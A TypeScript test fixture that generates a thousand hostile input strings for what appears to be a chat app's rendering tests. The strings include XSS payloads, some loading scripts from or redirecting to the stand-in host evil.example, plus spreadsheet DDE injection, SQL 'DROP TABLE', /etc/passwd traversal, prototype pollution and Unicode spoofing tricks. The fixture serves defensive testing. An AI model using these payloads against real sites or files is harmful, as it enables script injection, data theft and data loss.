const HOW_MANY = 1_000;
const HEBREW_AND_BACK = "\u202Eשלום\u202C";
const ZALGO = "\u0301\u0323\u0489".repeat(8);

/** What somebody types who wants a browser, a page or a spreadsheet to do something; each says its number. */
const KINDS: readonly ((n: number) => string)[] = [
  (n) => `<script>vecheRan(${n})</script>`,
  (n) => `"><script src=//evil.example/${n}.js></script>`,
  (n) => `<img src=x data-hostile onerror=vecheRan(${n})>`,
  (n) => `<svg data-hostile onload="vecheRan(${n})"></svg>`,
  (n) => `'"><iframe data-hostile srcdoc="<script>parent.vecheRan(${n})</script>"></iframe>`,
  (n) => `<a data-hostile href="javascript:vecheRan(${n})">${n}</a>`,
  (n) => `<details data-hostile open ontoggle=vecheRan(${n})>`,
  (n) => `</textarea></title></style><b data-hostile autofocus tabindex=1 onfocus=vecheRan(${n})>`,
  (n) => `<style data-hostile>*{display:none}/*${n}*/</style>`,
  (n) => `<veche-chat data-hostile n=${n}></veche-chat><slot data-hostile></slot>`,
  (n) => `<template shadowrootmode=open data-hostile>${n}</template><!-- ${n}`,
  (n) => `<form data-hostile action=https://evil.example/${n}><input name=innerHTML>`,
  (n) => `<meta data-hostile http-equiv=refresh content="0;url=//evil.example/${n}">`,
  (n) => `javascript:vecheRan(${n})//`,
  (n) => `[${n}](javascript:vecheRan(${n}))`,
  (n) => `[${n}](data:text/html;base64,PHNjcmlwdD4=) ![${n}](//evil.example/${n}.png)`,
  (n) => `https://evil.example/${n}?"onmouseover="vecheRan(${n})`,
  (n) => "${vecheRan(" + n + ")} {{vecheRan(" + n + ")}} <%= vecheRan(" + n + ") %> #{" + n + "}",
  (n) => `lit$${n}$ <!--?lit$${n}$--> <?${n}> {{limit}} \${str${n}}`,
  (n) => `&lt;b&gt;${n}&amp;#60;script&#62; &#x${n};`,
  (n) => `__proto__ constructor ${n} toString hasOwnProperty`,
  (n) => `=HYPERLINK("https://evil.example/${n}";"${n}")`,
  (n) => `+${n}+cmd|' /C calc'!A0 @SUM(${n}) -${n}`,
  (n) => `'; DROP TABLE message; -- ${n}`,
  (n) => `${HEBREW_AND_BACK} \u2067${n}\u2069 \u200Fדרך ${n}\u200E`,
  (n) => `${n}\u202E${n}gnp.exe`,
  (n) => `не\u200Bви\u200Cди\u200Dмо\uFEFF${n}\u2060\u00AD`,
  (n) => `z${ZALGO}${n}`,
  (n) => `${"Ы".repeat(160)}${n}`,
  (n) => `https://${"long-".repeat(30)}${n}.example/${"a".repeat(60)}`,
  (n) => `👩‍👩‍👧‍👦🏳️‍🌈${"🌲".repeat(20)}${n}`,
  (n) => `${"﷽".repeat(6)}${n}`,
  (n) => `../../../../etc/passwd%00${n} \\\\evil\\${n}`,
  (n) => `%3Cscript%3EvecheRan(${n})%3C/script%3E \\u003cscript\\u003e`,
  (n) => `{"__proto__":{"polluted":${n}}}`,
  (n) => `\u0007\u001B[31m${n}\u001B[0m\u0085`,
  (n) => `￼\uFFFD\uE000${n}\u{E0041}\u{1F3F4}`,
  (n) => `<<<<${n}>>>>]]> <![CDATA[${n}]]>`,
  (n) => `# ${n} *${n}* _${n}_ \`${n}\` | ${n} | --- ~~${n}~~`,
  (n) => `NaN null undefined true ${n} [object Object] 1e${n}`,
];

/** A thousand strings, of forty kinds, none like another. */
export const HOSTILE: readonly string[] = Array.from(
  { length: HOW_MANY },
  (_, at) => KINDS[at % KINDS.length]?.(1_000 + at) ?? "",
);

/** In so many parts, nearly alike in length. */
export function inParts(strings: readonly string[], parts: number): string[][] {
  const each = Math.ceil(strings.length / parts);
  return Array.from({ length: parts }, (_, at) => strings.slice(at * each, (at + 1) * each));
}
